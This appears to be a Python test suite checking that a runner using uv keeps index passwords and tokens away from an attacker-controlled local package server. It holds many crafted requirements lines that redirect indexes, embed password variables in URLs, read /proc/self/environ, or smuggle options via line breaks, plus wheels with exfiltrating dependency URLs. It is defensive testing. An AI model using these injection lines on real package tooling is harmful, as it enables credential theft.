"""What servers learn while environments are made: a real `uv`, an index of the user and a server of somebody else, both on this
machine, and passwords in the environment that neither may get."""

import hashlib
import http.server
import io
import os
import tempfile
import threading
import unittest
import zipfile
from pathlib import Path
from unittest import mock

import support  # noqa: F401, finds the runner
from carton_runner import environments
from carton_runner.environments import compiling, making, original_lock, programs, requirements, store
from carton_runner.errors import RunnerError
from environment_case import Case, real_uv

#: What nobody but the user's index may get.
CANARIES = {
    "UV_INDEX_COMPANY_USERNAME": "canary-user",
    "UV_INDEX_COMPANY_PASSWORD": "canary-index-password",
    "CARTON_KEY_PASSWORD": "canary-key",
    "CARTON_TOKEN_x": "canary-token",
    "MYSECRET": "canary-other",
    "UV_PUBLISH_TOKEN": "canary-publish",
}


def wheel(name, requires=(), files=()):
    """Returns the wheel of version 1.0 of a package. ``files`` are paths, texts and modes."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for path, text, mode in files:
            entry = zipfile.ZipInfo(path)
            entry.external_attr = (0o100000 | mode) << 16
            file.writestr(entry, text)
        info = f"{name}-1.0.dist-info"
        needs = "".join(f"Requires-Dist: {one}\n" for one in requires)
        file.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{needs}")
        file.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        file.writestr(f"{info}/RECORD", "".join(f"{path},,\n" for path, _, _ in files))
    return data.getvalue()


class Server(http.server.ThreadingHTTPServer):
    """A package index that records what it is asked for."""

    def __init__(self, **wheels):
        super().__init__(("127.0.0.1", 0), _Handler)
        self.requests = []
        self.wheels = {f"{name}-1.0-py3-none-any.whl": data for name, data in wheels.items()}
        self.url = f"http://127.0.0.1:{self.server_port}"

    def page(self, name):
        found = [file for file in self.wheels if file.startswith(f"{name}-")]
        links = (f'<a href="/files/{file}#sha256={sha256(self.wheels[file])}">{file}</a>' for file in found)
        return "".join(links).encode() if found else None

    def seen(self):
        """Returns everything that clients have sent."""
        return "\n".join(self.requests)


class _Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *arguments):
        pass

    def do_GET(self):
        self.server.requests.append(f"{self.requestline}\n{self.headers}")
        parts = self.path.strip("/").split("/")
        data = self.server.page(parts[1]) if parts[0] == "simple" and len(parts) == 2 else self.server.wheels.get(parts[-1])
        self.send_response(200 if data is not None else 404)
        self.send_header("Content-Type", "text/html" if parts[0] == "simple" else "application/octet-stream")
        self.send_header("Content-Length", str(len(data or b"")))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(data or b"")

    do_HEAD = do_CONNECT = do_POST = do_GET


def sha256(data):
    return hashlib.sha256(data).hexdigest()


class ServerCase(Case):
    def setUp(self):
        super().setUp()
        found = real_uv()
        if found is None:
            self.skipTest("there is no uv")
        program = "#!/bin/sh\necho ran\n"
        files = (("tool/run", program, 0o755), ("tool/data", "x", 0o644), ("tool-1.0.data/scripts/run-tool", program, 0o755))
        tool = wheel("tool", files=files)
        self.index = self.server(numpy=wheel("numpy"), good=wheel("good", ["limited"]), limited=wheel("limited"), tool=tool)
        self.evil = self.server(numpy=wheel("numpy", ["stolen"]), good=wheel("good"), limited=wheel("limited"))
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NETRC", "XDG_CONFIG_HOME"):
            os.environ.pop(name, None)
        home = self.folder / "home"
        home.mkdir()
        os.environ.update(CANARIES, UV=found, HOME=str(home), NO_PROXY="127.0.0.1", no_proxy="127.0.0.1")
        os.environ["UV_INDEX"] = f"company={self.index.url}/simple"
        # PyPI itself cannot be reached by a test.
        os.environ["UV_DEFAULT_INDEX"] = f"{self.index.url}/simple"
        self.addCleanup(os.chdir, os.getcwd())

    def server(self, **wheels):
        server = Server(**wheels)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server

    def write_model(self, text, name="m"):
        self.write(f"{name}/requirements.txt", text)
        return self.folder / name

    def failed(self, action):
        with self.assertRaises(RunnerError) as caught:
            action()
        error = caught.exception
        self.assertNotIn("canary", "\n".join((error.message, *error.causes, error.hint or "")))
        self.assertNotIn("canary", "\n".join((*self.report.texts, *self.report.warnings)))
        return error

    def assert_nothing_is_lost(self):
        self.assertEqual(self.evil.requests, [])
        self.assertNotIn("canary", self.index.seen())


class Requirements(ServerCase):
    def test_no_line_reaches_a_program_or_a_server(self):
        evil = self.evil.url
        self.write("token", "ghp_canarytoken123\n")
        self.write("m/x", "")
        os.symlink("../token", self.folder / "m/link.txt")
        password = "${UV_INDEX_COMPANY_PASSWORD}"
        for line in (
            f"--index-url {evil}/simple",
            f"--index-url {evil}/${{UV_INDEX_COMPANY_USERNAME}}/{password}/simple",
            f"-i{evil}/simple",
            f"--extra-index-url {evil}/${{CARTON_KEY_PASSWORD}}/${{MYSECRET}}/${{CARTON_TOKEN_x}}",
            f"--extra-index-url={evil}/simple",
            f"--find-links {evil}/{password}",
            f"-f {evil}/links",
            f"-r {evil}/{password}.txt",
            f"-c{evil}/x.txt",
            f"--requirement={evil}/x.txt",
            f"-r {self.folder}/token",
            "-r ../token",
            "-r link.txt",
            "-c link.txt",
            "-r /etc/hostname",
            "-r /proc/self/environ",
            f"good @ {evil}/files/good-1.0-py3-none-any.whl",
            f"good@{evil}/{password}/good-1.0-py3-none-any.whl",
            f"{evil}/{password}/good-1.0-py3-none-any.whl",
            f"git+{evil}/{password}.git",
            f"good @ git+{evil}/{password}.git",
            "./good-1.0-py3-none-any.whl",
            f"-e git+{evil}/x.git#egg=x",
            password,
            f"good=={password}",
            f"good[{password}]",
            f"good ; os_name == '{password}'",
            f"good==1.0 --hash=sha256:{password}",
            f"good==1.0 --index-url={evil}",
            f"good \\\n--index-url={evil}",
            f"# a comment \\\n--index-url {evil}/simple",
            f"good # a comment \\\n--index-url {evil}/simple",
            f"\\\n--index-url {evil}/simple",
            f"good\r--index-url {evil}/simple",
            f"good\x0b--index-url {evil}/simple",
            f"good\x0c--index-url {evil}/simple",
            f"# \x85--index-url {evil}/simple",
            f"# \u2028--index-url {evil}/simple",
            f"\ufeff--index-url {evil}/simple",
            f"--trusted-host {evil}",
            f"--proxy {evil}",
            "--no-index",
        ):
            with self.subTest(line=line):
                model = self.write_model(f"{line}\ngood\n")
                with mock.patch.object(programs.subprocess, "Popen", side_effect=AssertionError("a program is started")):
                    error = self.failed(lambda: environments.prepare(model, self.report))
                    self.assertEqual(error.code, "setup")
                self.assert_nothing_is_lost()
        self.assertEqual(self.index.requests, [])

    def test_packages_come_from_the_users_index(self):
        self.write("m/more.txt", "-c limits.txt\ntool\n")
        self.write("m/limits.txt", "limited<2\nnothing==5\n")
        model = self.write_model(
            "# needed\n-r more.txt\nGood[x] >=1, <2 ; python_version >= '3.0'  # comment\n"
            "nothing ; sys_platform == 'win32'\n--prefer-binary\n"
        )
        packages = self.prepare(model)
        found = sorted(path.name for path in packages.glob("*.dist-info"))
        self.assertEqual(found, [f"{name}-1.0.dist-info" for name in ("good", "limited", "numpy", "tool")])
        self.assert_nothing_is_lost()
        self.assertIn("GET /simple/good/", self.index.seen())
        self.assertNotIn("/nothing/", self.index.seen())
        self.write("m/limits.txt", "limited>1\n")
        error = self.failed(lambda: environments.prepare(model, self.report))
        self.assertIn("no such versions", error.message)
        self.assertEqual(error.code, "setup")

    def test_only_the_index_gets_its_password(self):
        os.environ["UV_INDEX"] = f"company={self.index.url}/private/simple"
        self.prepare(self.write_model("good\n"))
        self.assertIn("Authorization: Basic ", self.index.seen())
        self.assertEqual(self.evil.requests, [])

    def test_files_beside_the_model_configure_nothing(self):
        # It would be asked before others.
        del os.environ["UV_INDEX"]
        evil = f'[[PREFIXindex]]\nname = "evil"\nurl = "{self.evil.url}/simple"\n'
        for folder in ("m", ".", "above"):
            if folder != "m":
                self.write(f"{folder}/uv.toml", evil.replace("PREFIX", ""))
            project = "[project]\nname = 'x'\nversion = '1'\n[tool.uv.workspace]\nmembers = ['*']\n"
            self.write(f"{folder}/pyproject.toml", project + evil.replace("PREFIX", "tool.uv."))
            self.write(f"{folder}/.env", f"UV_INDEX_URL={self.evil.url}/simple\n")
            self.write(f"{folder}/.python-version", "2.7\n")
            self.write(f"{folder}/pip.conf", f"[global]\nindex-url = {self.evil.url}/simple\n")
        os.chdir(self.folder / "m")
        # The folder of temporary files is below one that others write to.
        with mock.patch.object(tempfile, "tempdir", str(self.folder / "above")):
            self.prepare(self.write_model("good\n"))
            compiling.compile_lock(requirements.Inputs.of(self.folder / "m"), self.report)
        self.assert_nothing_is_lost()

    def test_the_configuration_of_the_user_counts(self):
        del os.environ["UV_INDEX"], os.environ["UV_DEFAULT_INDEX"]
        config = self.write("home/.config/uv/uv.toml", f'[[index]]\nurl = "{self.index.url}/simple"\ndefault = true\n')
        self.prepare(self.write_model("good\n"))
        os.environ["UV_CONFIG_FILE"] = str(self.write("elsewhere.toml", config.read_text()))
        config.unlink()
        self.prepare(self.write_model("limited\n"))
        self.assert_nothing_is_lost()

    def test_a_line_of_the_users_own_index_may_stay(self):
        url = f"{self.index.url}/simple"
        self.prepare(self.write_model(f"--extra-index-url {url}/\ngood\n"))
        self.assert_nothing_is_lost()


class Packages(ServerCase):
    def test_metadata_of_packages_reaches_nobody(self):
        password = "${UV_INDEX_COMPANY_PASSWORD}"
        needs = [f"stolen @ {self.evil.url}/{password}/stolen-1.0-py3-none-any.whl", f"good ; os_name == '{password}'"]
        data = self.index.wheels["evil-1.0-py3-none-any.whl"] = wheel("evil", needs)
        self.failed(lambda: environments.prepare(self.write_model("evil\n"), self.report))
        self.assert_nothing_is_lost()
        # What is locked is installed without looking at what it needs.
        packages = self.prepare(self.model(f"evil==1.0 --hash=sha256:{sha256(data)}\n"))
        self.assertEqual([path.name for path in packages.glob("*.dist-info")], ["evil-1.0.dist-info"])
        self.assert_nothing_is_lost()

    def test_wheels_of_the_originals_lock_get_no_variables(self):
        password = "${UV_INDEX_COMPANY_PASSWORD}"
        data = wheel("evil", [f"stolen @ {self.evil.url}/{password}/stolen-1.0-py3-none-any.whl"])
        self.evil.wheels["evil-1.0-py3-none-any.whl"] = data
        # In the model, in a folder with such a name.
        folder = f".carton/{password}"
        path = self.folder / "model" / folder / "evil-1.0-py3-none-any.whl"
        path.parent.mkdir(parents=True)
        path.write_bytes(data)
        bundled = original_lock.LockedWheel(sha256(data), None, f"{folder}/{path.name}")
        lines = original_lock.lines(original_lock.Environment({}, (bundled,)), self.folder / "model")
        making.environment(store.Wanted(lines, is_never_built=True), self.report)
        self.assert_nothing_is_lost()
        # At a URL; those of a lock are `https`, which this server is not.
        url = f"{self.evil.url}/%24%7BUV_INDEX_COMPANY_PASSWORD%7D/evil-1.0-py3-none-any.whl"
        self.assertTrue(original_lock.is_file_on_a_server(url.replace("http", "https")))
        lines = [f"evil @ {url} --hash=sha256:{sha256(data)}"]
        making.environment(store.Wanted(lines, is_never_built=True), self.report)
        self.assertIn("/%24%7BUV_INDEX_COMPANY_PASSWORD%7D/evil", self.evil.seen())
        for text in ("canary", "Authorization", "/stolen"):
            self.assertNotIn(text, self.evil.seen())
        for url in (f"https://evil.example/{password}/x-1.0-py3-none-any.whl", "https://evil.example/$MYSECRET/x-1.0-py3-none-any.whl"):
            self.assertFalse(original_lock.is_file_on_a_server(url))

    def test_bundled_wheels_reach_nobody(self):
        password = "${UV_INDEX_COMPANY_PASSWORD}"
        data = wheel("evil", [f"stolen @ {self.evil.url}/{password}/stolen-1.0-py3-none-any.whl"])
        model = self.model(f"evil==1.0 --hash=sha256:{sha256(data)}\n")
        self.write("model/.carton/wheels.lock", f"# platform: {store.platform_tag()}\nevil==1.0 --hash=sha256:{sha256(data)}\n")
        folder = self.folder / "model/.carton/wheels"
        folder.mkdir()
        for name in ("evil-1.0-py3-none-any.whl", f"x-{password}-py3-none-any.whl", f"evil-1.0+{password}-py3-none-any.whl", "index.html"):
            (folder / name).write_bytes(data)
        self.prepare(model)
        self.assert_nothing_is_lost()
        self.assertEqual(self.index.requests, [])


class RunBits(ServerCase):
    def test_programs_of_wheels_can_be_executed(self):
        model = self.model(f"tool==1.0 --hash=sha256:{sha256(self.index.wheels['tool-1.0-py3-none-any.whl'])}\n")

        def check():
            packages = self.prepare(model)
            executable = [packages / "tool/run", packages.parents[2] / "bin/run-tool"]
            self.assertEqual([os.access(path, os.X_OK) for path in executable], [True, True])
            self.assertFalse(os.access(packages / "tool/data", os.X_OK))

        check()
        # As a confined uv leaves its cache: without the modes.
        cache = self.folder / "data/python/uv-cache"
        unpacked = [path for path in cache.glob("archive-v*/**/*") if path.is_file() and not path.is_symlink()]
        self.assertTrue(any(path.name == "run" for path in unpacked))
        for path in unpacked:
            path.chmod(0o644)
        making._delete(self.environment())
        # This process keeps the environment from being deleted.
        while making._kept:
            os.close(making._kept.pop())
        check()

    def test_the_users_cache_is_left_alone(self):
        mine = self.folder / "mine"
        os.environ.update(UV_CACHE_DIR=str(mine), UV_LINK_MODE="symlink")
        self.write("home/.config/uv/uv.toml", f'cache-dir = "{mine}"\nlink-mode = "symlink"\n')
        packages = self.prepare(self.write_model("tool\n"))
        self.assertFalse(mine.exists())
        self.assertFalse((packages / "tool/run").is_symlink())
        self.assertTrue((self.folder / "data/python/uv-cache").is_dir())
        self.assertEqual(list((self.folder / "home").glob(".cache/**/*")), [])


if __name__ == "__main__":
    unittest.main()
